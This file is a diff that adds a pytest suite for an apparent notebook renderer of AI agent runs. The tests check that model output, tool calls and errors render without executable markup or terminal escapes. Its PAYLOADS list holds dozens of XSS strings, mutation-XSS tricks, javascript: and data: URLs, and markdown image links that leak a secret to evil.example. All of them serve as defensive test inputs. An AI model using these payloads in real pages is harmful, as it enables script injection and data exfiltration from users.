@@ -1,0 +1,402 @@
+from __future__ import annotations
+
+import asyncio
+import re
+from html.parser import HTMLParser
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from whisper_nb import Agent, ModelError, Rule, Run, Runtime, ScriptedModel
+from whisper_nb.messages import Finish, TextDelta, Usage
+from whisper_nb.notebook.render import (
+    SHOWN,
+    STREAMED,
+    run_bundle,
+    run_html,
+    run_text,
+    safe_markdown,
+    session_rows,
+    status_line,
+    table_html,
+    table_text,
+    tool_lines,
+)
+
+MARKDOWN_TAGS = set(
+    "a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul".split()
+)
+OUR_TAGS = {"div", "span", "small"}
+OUR_STYLES = re.compile(r"color:#[0-9a-f]{6}|opacity:\.75|white-space:pre-wrap|text-align:left")
+ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
+SCHEMES = {"http", "https", "mailto"}
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" ONERROR="alert(1)"//',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href=javascript:alert(1)>click</math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<p onmouseover=alert(1)>x</p>",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<div style=position:fixed;inset:0;z-index:9>click me</div>",
+    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=token><button formaction=javascript:alert(1)>ok</form>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php <script>alert(1)</script> ?>",
+    "</pre></div><script>alert(1)</script>",
+    "</code></small></td></tr></table><script>alert(1)</script>",
+    "<button data-commandlinker-command=kernelmenu:shutdown>x</button>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](vbscript:alert(1)) [y](file:///etc/passwd) [z](blob:http://x/y)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](http://evil.example 'title\" onclick=alert(1) x=\"')",
+    "[x]: javascript:alert(1) 'title'\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](x'onerror=alert(1))",
+    "![x](http://evil.example/leak?q=secret)",
+    "![x][y]\n\n[y]: http://evil.example/leak",
+    "[![x](http://evil.example/leak)](http://evil.example)",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    '```html onload=alert(1)" x="\n<b>\n```',
+    "`<script>alert(1)</script>`",
+    "| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | <td onclick=alert(1)> |",
+    "# <img src=x onerror=alert(1)>",
+    "> <svg onload=alert(1)>\n1. <img src=x onerror=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\x00<script\x00>alert(1)</script>",
+    "<scrıpt>alert(1)</scrıpt>",
+    "\ud83d<script>alert(1)</script>\ude00",
+    "\u202e<img src=x onerror=alert(1)>",
+    "$$\\href{javascript:alert(1)}{x}$$ $\\unicode{<img src=x onerror=alert(1)>}$",
+]
+
+
+class Page(HTMLParser):
+    """What a browser would see in some HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.foreign: list[str] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.foreign.append(data)
+
+    def handle_decl(self, decl: str) -> None:
+        self.foreign.append(decl)
+
+    def handle_pi(self, data: str) -> None:
+        self.foreign.append(data)
+
+    def unknown_decl(self, data: str) -> None:
+        self.foreign.append(data)
+
+
+def assert_safe(html: str, tags: set[str]) -> Page:
+    """Nothing in it but these tags, the attributes that belong to them, and our own styles."""
+    page = Page(html)
+    assert page.foreign == []
+    for tag, attributes in page.tags:
+        assert tag in tags, html
+        for name, value in attributes.items():
+            if name == "style":
+                assert OUR_STYLES.fullmatch(value or ""), html
+                continue
+            assert name in ATTRIBUTES.get(tag, ()), html
+            if name == "href":
+                assert urlsplit(value or "").scheme in SCHEMES, html
+    return page
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_markdown_of_a_model_can_neither_run_nor_load_anything(payload: str) -> None:
+    assert_safe(safe_markdown(payload), MARKDOWN_TAGS)
+    assert_safe(safe_markdown(f"text\n\n- {payload}\n\n| a |\n|---|\n| {payload} |\n"), MARKDOWN_TAGS)
+
+
+@given(st.text(alphabet="<>&\"'=/ \n`[]()!#*|-_:;\\scriptonerjavx\x00"))
+def test_no_text_gets_through(text: str) -> None:
+    assert_safe(safe_markdown(text), MARKDOWN_TAGS)
+
+
+def test_links_lead_out_of_the_notebook_or_nowhere() -> None:
+    page = assert_safe(
+        safe_markdown("[a](https://x.example/?a=1&b=2) [b](mailto:x@x.example) [c](/api/shutdown) [d](../x.html)"),
+        MARKDOWN_TAGS,
+    )
+    links = [attributes for tag, attributes in page.tags if tag == "a"]
+    assert [link.get("href") for link in links] == ["https://x.example/?a=1&b=2", "mailto:x@x.example", None, None]
+    assert {link["rel"] for link in links} == {"noopener noreferrer"}
+
+
+def test_good_markdown_stays() -> None:
+    page = assert_safe(
+        safe_markdown("# T\n\n**b** *e* ~~d~~ `c`\n\n3. x\n\n> q\n\n```python\na < b\n```\n\n| h |\n|---|\n| v |\n"),
+        MARKDOWN_TAGS,
+    )
+    tags = [tag for tag, _ in page.tags]
+    for tag in ("h1", "strong", "em", "s", "code", "ol", "blockquote", "pre", "table", "th", "td"):
+        assert tag in tags
+    assert ("ol", {"start": "3"}) in page.tags
+    assert "a < b" in page.text
+
+
+# A whole run
+
+
+async def ran(runtime: Runtime, rule: Rule, *more: Rule, prompt: str = "go", **agent: Any) -> Run:
+    """A run that has ended, in whatever way."""
+    runtime.models["offline/test"] = ScriptedModel([*more, rule])
+    run = runtime.create(Agent(name="bob", config="offline/test", **agent)).submit(prompt)
+    async for _ in run.stream():
+        pass
+    return run
+
+
+def literal(text: str) -> str:
+    """As a rule's reply, so that it is said as it is."""
+    return text.replace("\\", "\\\\")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+async def test_nothing_that_a_run_shows_is_markup_of_others(runtime: Runtime, payload: str) -> None:
+    def look(path: str) -> str:
+        raise ValueError(payload + path)
+
+    call = {"name": literal(payload), "arguments": {"path": literal(payload)}}
+    calls = [call, {"name": "look", "arguments": {"path": "x"}}, {"name": "look", "arguments": literal(payload)}]
+    good = await ran(runtime, Rule("", literal(payload), role="tool"), Rule("", "", "user", calls=calls), tools=(look,))
+    assert good.status == "succeeded"
+    bad = await ran(runtime, Rule("", error=payload), prompt=payload)
+    assert bad.status == "failed"
+    for run in (good, bad):
+        page = assert_safe(run_bundle(run)["text/html"], MARKDOWN_TAGS | OUR_TAGS)
+        assert run.status in page.text
+        row = assert_safe(table_html(session_rows([run.session]), ""), MARKDOWN_TAGS)
+        assert "bob" in row.text
+    assert_safe(table_html([{payload: payload}], ""), MARKDOWN_TAGS)
+    assert_safe(table_html([], payload), MARKDOWN_TAGS)
+
+
+async def test_what_streams_is_escaped_text(runtime: Runtime) -> None:
+    gate = asyncio.Event()
+    runtime.models["offline/test"] = Held(["<b>**half** a", " sentence"], gate)
+    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
+    async for record in run.stream():
+        if getattr(record.event, "text", "") == "<b>**half** a":
+            break
+    page = assert_safe(run_html(run), MARKDOWN_TAGS | OUR_TAGS)
+    assert "<b>**half** a" in page.text
+    assert "strong" not in [tag for tag, _ in page.tags]
+    assert "bob#1 · running · " in page.text
+    assert re.search(r"as of \d\d:\d\d:\d\d", page.text)
+    gate.set()
+    await run
+    page = assert_safe(run_html(run), MARKDOWN_TAGS | OUR_TAGS)
+    assert "strong" in [tag for tag, _ in page.tags]
+    assert "as of" not in page.text
+
+
+class Held(ScriptedModel):
+    """Says the first piece, waits for the test, then says the rest."""
+
+    def __init__(self, pieces: list[str], gate: asyncio.Event, usage: Usage | None = None, cost: float | None = None):
+        super().__init__([])
+        self.pieces, self.gate, self.finish = pieces, gate, Finish("stop", usage, cost)
+
+    async def stream(self, request: Any) -> Any:
+        yield TextDelta(self.pieces[0])
+        await self.gate.wait()
+        for piece in self.pieces[1:]:
+            yield TextDelta(piece)
+        yield self.finish
+
+
+def spent(usage: Usage | None, cost: float | None) -> Held:
+    """A model that says what it costs."""
+    gate = asyncio.Event()
+    gate.set()
+    return Held(["ok"], gate, usage, cost)
+
+
+@pytest.mark.parametrize(
+    ("usage", "cost", "facts"),
+    [
+        (Usage(120, 45), 0.0021, "120 + 45 tokens · $0.0021"),
+        (Usage(1, 1), 0.0, "1 + 1 tokens · $0"),
+        (Usage(1, 1), 0.000012, "1 + 1 tokens · $1.2e-05"),
+        (Usage(1, 1), None, "1 + 1 tokens · cost unknown"),
+        (None, None, "tokens unknown · cost unknown"),
+        (None, 0.5, "tokens unknown · $0.5000"),
+    ],
+)
+async def test_the_status_line_says_what_is_known_of_tokens_and_cost(
+    runtime: Runtime, usage: Usage | None, cost: float | None, facts: str
+) -> None:
+    runtime.models["offline/test"] = spent(usage, cost)
+    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
+    await run
+    assert re.fullmatch(rf"bob#1 · succeeded · {re.escape(facts)} · \d+\.\d s", status_line(run))
+
+
+async def test_the_status_line_of_a_run_that_waits_or_never_ran_says_nothing_of_cost(runtime: Runtime) -> None:
+    bob = runtime.create(Agent(name="bob"))
+    bob.pause()
+    run = bob.submit("go")
+    async for record in run.stream():
+        if record.run:
+            break
+    assert re.fullmatch(r"bob#1 · queued · as of \d\d:\d\d:\d\d", status_line(run))
+    run.cancel()
+    async for _ in run.stream():
+        pass
+    assert status_line(run) == "bob#1 · cancelled"
+
+
+async def test_an_unknown_cost_is_never_zero_in_the_table(runtime: Runtime) -> None:
+    bob = runtime.create(Agent(name="bob", config="offline/test"))
+    assert session_rows([bob])[0]["cost"] == "$0", "nothing was sent, so this is known"
+    gate = asyncio.Event()
+    runtime.models["offline/test"] = Held(["a", "b"], gate, Usage(3, 4), 0.25)
+    run = bob.submit("first")
+    async for record in run.stream():
+        if getattr(record.event, "text", ""):
+            break
+    assert session_rows([bob])[0]["cost"] == "unknown", "on its way, and nobody has said what it costs"
+    gate.set()
+    await run
+    assert session_rows([bob])[0]["cost"] == "$0.2500"
+    runtime.models["offline/test"] = spent(None, None)
+    await bob.submit("second")
+    assert session_rows([bob])[0]["cost"] == "unknown", "a sum with an unknown part"
+    bob.submit("third").cancel()
+    assert session_rows([bob])[0]["tokens"] == "3 + 4"
+
+
+async def test_text_plain_says_the_same(runtime: Runtime) -> None:
+    def add(a: int, b: int) -> int:
+        return a + b
+
+    calls = [{"name": "add", "arguments": {"a": 1, "b": 2}}, {"name": "add", "arguments": {"a": "x"}}]
+    run = await ran(runtime, Rule("", "**three**", role="tool"), Rule("", role="user", calls=calls), tools=(add,))
+    text = run_bundle(run)["text/plain"]
+    assert text == run_text(run)
+    first, *lines, blank, body = text.split("\n")
+    assert first == status_line(run)
+    assert lines[0] == "  ✓ add(a=1, b=2) → 3"
+    assert lines[1].startswith('  ✗ add(a="x") → error: ValidationError')
+    assert (blank, body) == ("", "**three**")
+    page = Page(run_html(run))
+    assert "✓ add(a=1, b=2) → 3" in page.text
+    assert "three" in page.text
+
+
+async def test_a_failed_run_shows_its_error_and_its_text_so_far(runtime: Runtime) -> None:
+    run = await ran(runtime, Rule("", "one two three", truncate=2))
+    assert isinstance(run.error, ModelError)
+    for text in (run_text(run), Page(run_html(run)).text):
+        assert "bob#1 · failed" in text
+        assert "the reply was cut off" in text
+        assert "one two" in text
+
+
+async def test_a_tool_that_runs_is_shown_before_it_ends(runtime: Runtime) -> None:
+    gate, started = asyncio.Event(), asyncio.Event()
+
+    async def slow() -> str:
+        started.set()
+        await gate.wait()
+        return "x" * 200
+
+    runtime.models["offline/test"] = ScriptedModel([Rule("", "done", role="tool"), Rule(calls=[{"name": "slow"}])])
+    run = runtime.create(Agent(name="bob", config="offline/test", tools=(slow,))).submit("go")
+    await started.wait()
+    assert tool_lines(run) == ["… slow()"]
+    gate.set()
+    await run
+    (line,) = tool_lines(run)
+    assert line.startswith("✓ slow() → xxx")
+    assert line.endswith("…")
+    assert len(line) < 100
+
+
+async def test_a_long_text_is_cut_and_says_where_the_rest_is(runtime: Runtime) -> None:
+    run = await ran(runtime, Rule("", "x" * (SHOWN + 1234)))
+    for text in (run_text(run), Page(run_html(run)).text):
+        assert "1,234 more characters in run.text" in text
+        assert len(text) < SHOWN + 500
+
+
+async def test_while_it_streams_a_long_text_shows_its_end(runtime: Runtime) -> None:
+    gate = asyncio.Event()
+    runtime.models["offline/test"] = Held(["a" * STREAMED + "the end", ""], gate)
+    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
+    async for record in run.stream():
+        if getattr(record.event, "text", ""):
+            break
+    assert "… 7 characters above …" in run_text(run)
+    assert run_text(run).endswith("the end")
+    gate.set()
+    await run
+
+
+async def test_an_emoji_that_came_in_two_halves_is_one_and_a_lone_half_does_no_harm(runtime: Runtime) -> None:
+    for reply, shown in (("\ud83d\ude00", "😀"), ("a \ud83d b", "a \N{REPLACEMENT CHARACTER} b")):
+        bundle = run_bundle(await ran(runtime, Rule("", reply)))
+        for text in bundle.values():
+            text.encode()
+            assert shown in text
+
+
+async def test_control_characters_reach_no_terminal(runtime: Runtime) -> None:
+    run = await ran(runtime, Rule("", "a\x1b[2Jb\x07\r\tc\n"), prompt="\x1b]0;owned\x07")
+    for text in (*run_bundle(run).values(), table_text(session_rows([run.session]), "")):
+        assert not set("\x1b\x07\r") & set(text)
+    assert "\tc" in run_bundle(run)["text/plain"]
+
+
+def test_a_table_in_columns() -> None:
+    rows = [{"agent": "bob", "state": "idle"}, {"agent": "margaret", "state": ""}]
+    assert table_text(rows, "none").split("\n") == ["agent     state", "bob       idle", "margaret"]
+    assert table_text([], "none") == "none"
+    assert Page(table_html(rows, "none")).text == "agentstatebobidlemargaret"
